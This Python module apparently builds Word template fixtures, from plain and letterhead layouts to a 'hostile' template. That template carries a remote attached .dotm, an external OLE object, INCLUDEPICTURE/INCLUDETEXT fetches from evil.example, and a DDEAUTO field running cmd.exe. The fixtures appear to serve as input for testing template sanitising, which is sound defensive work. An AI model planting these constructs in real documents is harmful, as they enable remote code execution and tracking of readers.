"""Word templates as other hands make them: plain, with a letterhead, with looks of its own, lying sideways; and one
that does everything a template must not.
"""

import struct
import zlib

from .workbooks import PACKAGE, RELATIONS, zipped

MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
SPACES = (
    f'xmlns:w="{MAIN}" xmlns:r="{RELATIONS}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" mc:Ignorable="w14"'
)


def png(width: int = 60, height: int = 24, colour: tuple[int, int, int] = (110, 20, 70), note: bytes = b"") -> bytes:
    """A picture of one colour; `note` is written into it unseen."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = (b"\0" + bytes(colour) * width) * height
    words = chunk(b"tEXt", b"Author\0" + note) if note else b""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + words + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def relations(*told: tuple[str, str, str]) -> str:
    """Relations by id, kind and target; what holds "://" lies outside."""
    inside = "".join(
        f'<Relationship Id="{id_}" Type="{RELATIONS}/{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if ":/" in target else "/>")
        for id_, kind, target in told
    )
    return f'<Relationships xmlns="{PACKAGE}">{inside}</Relationships>'


def part(root: str, inside: str) -> str:
    return f"<w:{root} {SPACES}>{inside}</w:{root}>"


def file(
    parts: dict[str, str | bytes],
    *told: tuple[str, str, str],
    body: str = "<w:p/>",
    section: str = "",
    main: str = "document.main+xml",
    more_types: str = "",
) -> bytes:
    """A whole file around its parts ("styles.xml": …), what its text mentions, and the properties of its pages."""
    kinds = {
        name: name.rpartition("/")[2].split(".")[0].rstrip("0123456789") for name in parts if name.endswith(".xml")
    }
    overrides = "".join(
        f'<Override PartName="/word/{name}" ContentType="{WORD}.{kind}+xml"/>' for name, kind in kinds.items()
    )
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
            f'<Override PartName="/word/document.xml" ContentType="{WORD}.{main}"/>{overrides}{more_types}</Types>',
            "_rels/.rels": relations(("r1", "officeDocument", "word/document.xml")),
            "word/document.xml": part("document", f"<w:body>{body}<w:sectPr>{section}</w:sectPr></w:body>"),
            "word/_rels/document.xml.rels": relations(*told),
            **{f"word/{name}": content for name, content in parts.items()},
        }
    )


def style(
    id_: str, name: str, inside: str = "", kind: str = "paragraph", default: bool = False, own: bool = False
) -> str:
    usual = ' w:default="1"' if default else ' w:customStyle="1"' if own else ""
    return f'<w:style w:type="{kind}"{usual} w:styleId="{id_}"><w:name w:val="{name}"/>{inside}</w:style>'


def styles(*more: str, font: str = "Liberation Serif", size: int = 24, language: str = "en-US") -> str:
    return part(
        "styles",
        f'<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="{font}" w:hAnsi="{font}" w:cs="{font}"/><w:sz w:val="{size}"/>'
        f'<w:lang w:val="{language}" w:eastAsia="en-US" w:bidi="ar-SA"/></w:rPr></w:rPrDefault><w:pPrDefault/></w:docDefaults>'
        + style(
            "Normal",
            "Normal",
            '<w:qFormat/><w:rsid w:val="00AB12CD"/><w:pPr><w:spacing w:after="160"/></w:pPr>',
            default=True,
        )
        + "".join(more),
    )


def logo(id_: str, name: str = "Picture 1") -> str:
    return (
        '<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="1428750" cy="571500"/>'
        f'<wp:docPr id="1" name="{name}" descr="The board\'s mark"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f'<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="S:\\Comms\\Jane Doe\\logo.png" descr="S:\\Comms\\Jane Doe\\logo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="{id_}"/>'
        '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1428750" cy="571500"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
    )


def field(instruction: str, shown: str) -> str:
    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    code = f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
    return f"{mark('begin')}{code}{mark('separate')}<w:r><w:t>{shown}</w:t></w:r>{mark('end')}"


def words(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


A4 = '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1440" w:header="708" w:footer="708" w:gutter="0"/>'


def plain() -> bytes:
    """As Word makes a new document: no style but the one of plain words, no header."""
    return file({"styles.xml": styles(font="Carlito", size=22)}, ("rId1", "styles", "styles.xml"), section=A4)


_PAGE = " PAGE   \\* MERGEFORMAT "


def letterhead() -> bytes:
    """A logo at the head, the page's number at the foot, and a first page that looks otherwise."""
    head = part("hdr", f'<w:p w:rsidR="00AB12CD"><w:pPr><w:jc w:val="right"/></w:pPr>{logo("rId7")}</w:p>')
    first = part("hdr", f"<w:p>{logo('rId7')}{words('Anytown Safeguarding Adults Board')}</w:p>")
    foot = part(
        "ftr", f'<w:p><w:pPr><w:jc w:val="center"/></w:pPr>{words("Anytown SAB · page ")}{field(_PAGE, "2")}</w:p>'
    )
    picture = relations(("rId7", "image", "media/image1.png"))
    return file(
        {
            "styles.xml": styles(
                style("Heading1", "heading 1", '<w:basedOn w:val="Normal"/><w:pPr><w:spacing w:before="240"/></w:pPr><w:rPr><w:b/><w:color w:val="6E1446"/><w:sz w:val="40"/></w:rPr>'),
                style("Heading2", "heading 2", '<w:basedOn w:val="Normal"/><w:pPr><w:spacing w:before="200"/></w:pPr><w:rPr><w:b/><w:color w:val="6E1446"/><w:sz w:val="28"/></w:rPr>'),
                style("TableGrid", "Table Grid", '<w:tblPr><w:tblBorders><w:top w:val="single" w:sz="4" w:space="0" w:color="auto"/><w:bottom w:val="single" w:sz="4" w:space="0" w:color="auto"/><w:insideH w:val="single" w:sz="4" w:space="0" w:color="auto"/></w:tblBorders></w:tblPr>', "table"),
                font="Liberation Sans",
                size=22,
            ),
            "header1.xml": head,
            "header2.xml": first,
            "footer1.xml": foot,
            "_rels/header1.xml.rels": picture,
            "_rels/header2.xml.rels": picture,
            "media/image1.png": png(note=b"Jane Doe"),
        },
        ("rId1", "styles", "styles.xml"),
        ("rId2", "header", "header1.xml"),
        ("rId3", "footer", "footer1.xml"),
        ("rId4", "header", "header2.xml"),
        section='<w:headerReference w:type="default" r:id="rId2"/><w:headerReference w:type="first" r:id="rId4"/><w:footerReference w:type="default" r:id="rId3"/>'
        '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1985" w:right="1134" w:bottom="1440" w:left="1134" w:header="567" w:footer="567" w:gutter="0"/><w:titlePg/>',
    )  # fmt: skip


_OWN_LISTS = part(
    "numbering",
    '<w:abstractNum w:abstractNumId="0"><w:multiLevelType w:val="multilevel"/>'
    '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:pStyle w:val="Pennawd1"/><w:lvlText w:val="%1."/><w:lvlJc w:val="left"/></w:lvl></w:abstractNum>'
    '<w:abstractNum w:abstractNumId="1"><w:multiLevelType w:val="singleLevel"/>'
    '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/><w:lvlText w:val="»"/><w:lvlJc w:val="left"/><w:pPr><w:ind w:left="500" w:hanging="300"/></w:pPr></w:lvl></w:abstractNum>'
    '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num><w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num>',
)
_THEME = (
    '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{r}" name="Own"><a:themeElements><a:clrScheme name="Own">'
    + "".join(f'<a:{name}><a:srgbClr val="{value}"/></a:{name}>' for name, value in (("dk1", "000000"), ("lt1", "FFFFFF"), ("dk2", "1F3864"), ("lt2", "E7E6E6"), ("accent1", "00695C"), ("accent2", "ED7D31"), ("accent3", "A5A5A5"), ("accent4", "FFC000"), ("accent5", "5B9BD5"), ("accent6", "70AD47"), ("hlink", "0563C1"), ("folHlink", "954F72")))
    + '</a:clrScheme><a:fontScheme name="Own"><a:majorFont><a:latin typeface="Liberation Sans"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Liberation Sans"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme>'
    '<a:fmtScheme name="Own"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst>'
    '<a:lnStyleLst><a:ln w="6350"/><a:ln w="12700"/><a:ln w="19050"/></a:lnStyleLst><a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst>'
    '<a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:blipFill><a:blip r:embed="rId1"/></a:blipFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>'
).replace("{r}", RELATIONS)  # fmt: skip


def own_look() -> bytes:
    """A .dotx of a designer's: fonts, a theme, a table style, bullets and numbered headings of its own, under ids in
    its own language.
    """
    green = '<w:color w:val="00695C" w:themeColor="accent1"/>'
    return file(
        {
            "styles.xml": styles(
                style("Teitl", "Title", f'<w:basedOn w:val="Normal"/><w:pPr><w:spacing w:after="300"/></w:pPr><w:rPr><w:b/>{green}<w:sz w:val="56"/></w:rPr>'),
                style("Pennawd1", "heading 1", f'<w:basedOn w:val="Normal"/><w:pPr><w:pageBreakBefore/><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr><w:rPr><w:caps/>{green}<w:sz w:val="36"/></w:rPr>'),
                style("ListBullet9", "List Bullet", '<w:basedOn w:val="Normal"/><w:pPr><w:numPr><w:numId w:val="2"/></w:numPr></w:pPr>'),
                style("Caption", "Quotation", "<w:rPr><w:i/></w:rPr>"),
                style("Pennawdtabl", "Caption", f'<w:basedOn w:val="Normal"/><w:pPr><w:keepNext/></w:pPr><w:rPr><w:i/>{green}</w:rPr>'),
                style("Arferol", "Normal Table", '<w:tblPr><w:tblInd w:w="0" w:type="dxa"/></w:tblPr>', "table", default=True),
                style("BoardTable", "Board Table", '<w:basedOn w:val="Arferol"/><w:tblPr><w:tblBorders><w:top w:val="single" w:sz="12" w:space="0" w:color="00695C"/><w:bottom w:val="single" w:sz="12" w:space="0" w:color="00695C"/><w:insideH w:val="single" w:sz="4" w:space="0" w:color="9BC4BE"/></w:tblBorders></w:tblPr>'
                      '<w:tblStylePr w:type="firstRow"><w:rPr><w:b/><w:color w:val="FFFFFF"/></w:rPr><w:tcPr><w:shd w:val="clear" w:color="auto" w:fill="00695C" w:themeFill="accent1"/></w:tcPr></w:tblStylePr>', "table", own=True),
                font="Liberation Sans",
                size=21,
            ),
            "numbering.xml": _OWN_LISTS,
            "theme/theme1.xml": _THEME,
            "theme/_rels/theme1.xml.rels": relations(("rId1", "image", "../media/ground.png")),
            "media/ground.png": png(),
            "fontTable.xml": part("fonts", '<w:font w:name="Liberation Sans"><w:panose1 w:val="020B0604020202020204"/><w:charset w:val="00"/><w:family w:val="swiss"/><w:pitch w:val="variable"/><w:embedRegular r:id="rId1" w:fontKey="{0}"/></w:font>'),
            "_rels/fontTable.xml.rels": relations(("rId1", "font", "fonts/font1.odttf")),
            "fonts/font1.odttf": b"\x11" * 400,
        },
        ("rId1", "styles", "styles.xml"),
        ("rId2", "numbering", "numbering.xml"),
        ("rId3", "theme", "theme/theme1.xml"),
        ("rId4", "fontTable", "fontTable.xml"),
        body="<w:p/><w:tbl><w:tblPr><w:tblStyle w:val=\"BoardTable\"/></w:tblPr><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>",
        section=A4,
        main="template.main+xml",
    )  # fmt: skip


def sideways_welsh() -> bytes:
    """A page that lies sideways, with odd margins, in Welsh, with a foot that says nothing of pages."""
    return file(
        {
            "styles.xml": styles(font="Liberation Sans", size=22, language="cy-GB"),
            "footer1.xml": part("ftr", f"<w:p>{words('Bwrdd Diogelu Unrhyw Le')}</w:p>"),
        },
        ("rId1", "styles", "styles.xml"),
        ("rId2", "footer", "footer1.xml"),
        section='<w:footerReference w:type="default" r:id="rId2"/><w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/>'
        '<w:pgMar w:top="700" w:right="3000" w:bottom="900" w:left="2000" w:header="300" w:footer="300" w:gutter="250"/>',
    )  # fmt: skip


_REACHING = "https://evil.example/"


def hostile(**more: bytes | str) -> bytes:
    """What a template must not do, all at once, short of what is refused outright."""
    head = part(
        "hdr",
        "<w:p>"
        + logo("rId1")  # a picture that is fetched
        + '<w:r><w:drawing><wp:inline><wp:docPr id="3" name="x"><a:hlinkClick r:id="rId2"/></wp:docPr><a:graphic><a:graphicData uri="u"><pic:pic><pic:blipFill><a:blip r:link="rId1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
        + f'<w:r><w:pict><v:shape href="{_REACHING}" style="width:1in"><v:imagedata r:id="rId1" o:href="{_REACHING}" src="{_REACHING}"/></v:shape></w:pict></w:r>'
        + '<w:r><w:object><o:OLEObject r:id="rId3"/></w:object></w:r>'
        + f'<w:hyperlink r:id="rId2">{words("Kept words")}</w:hyperlink>'
        + field(f' INCLUDEPICTURE "{_REACHING}a.png" \\d ', "fetched")
        + field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ', "run")
        + field(" IF " + field("PAGE", "1") + ' = 1 "a" "b" ', "chosen")
        + field(" AUTHOR ", "Jane Doe")
        + f'<w:fldSimple w:instr=" INCLUDETEXT &quot;{_REACHING}&quot; ">{words("included")}</w:fldSimple>'
        + '<w:commentRangeStart w:id="0"/><w:ins w:id="1" w:author="Jane Doe" w:date="2026-01-01T00:00:00Z">' + words("Inserted") + "</w:ins>"
        + '<w:del w:id="2" w:author="Jane Doe"><w:r><w:delText>Struck</w:delText></w:r></w:del><w:r><w:commentReference w:id="0"/></w:r>'
        + '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent>' + words("Bound") + "</w:sdtContent></w:sdt>"
        + "</w:p>",
    )  # fmt: skip
    return file(
        {
            "styles.xml": styles(),
            "settings.xml": part("settings", '<w:attachedTemplate r:id="rId1"/><w:documentProtection w:edit="readOnly"/>'),
            "_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", f"{_REACHING}t.dotm")),
            "header1.xml": head,
            "_rels/header1.xml.rels": relations(
                ("rId1", "image", f"{_REACHING}pixel.png"), ("rId2", "hyperlink", _REACHING), ("rId3", "oleObject", f"{_REACHING}o.bin")
            ),
            "comments.xml": part("comments", '<w:comment w:id="0" w:author="Jane Doe"><w:p/></w:comment>'),
            "chunk.html": "<html><body>chunk</body></html>",
            "customXml/item1.xml": "<secret>kept by somebody</secret>",
            **more,
        },
        ("rId1", "styles", "styles.xml"),
        ("rId2", "settings", "settings.xml"),
        ("rId3", "header", "header1.xml"),
        ("rId4", "comments", "comments.xml"),
        ("rId5", "aFChunk", "chunk.html"),
        ("rId6", "customXml", "customXml/item1.xml"),
        body='<w:altChunk r:id="rId5"/><w:p><w:ins w:id="9" w:author="Jane Doe"><w:r><w:t>A draft body</w:t></w:r></w:ins></w:p>',
        section=f'<w:headerReference w:type="default" r:id="rId3"/>{A4}',
    )  # fmt: skip


ALL = {
    "plain": plain,
    "letterhead": letterhead,
    "own look": own_look,
    "sideways, Welsh": sideways_welsh,
    "hostile": hostile,
}
